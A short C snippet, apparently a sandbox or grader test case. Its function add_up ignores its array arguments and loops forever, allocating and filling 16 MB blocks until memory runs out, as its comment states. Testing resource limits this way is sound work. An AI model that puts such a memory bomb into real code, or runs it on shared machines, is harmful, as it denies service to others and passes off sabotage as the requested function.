/* Take all memory there is. */

int64_t add_up(const int64_t *x, int n)
{
    (void)x;
    (void)n;
    for (;;) {
        char *more = malloc(1 << 24);
        if (more)
            memset(more, 1, 1 << 24);
    }
    return -1;
}
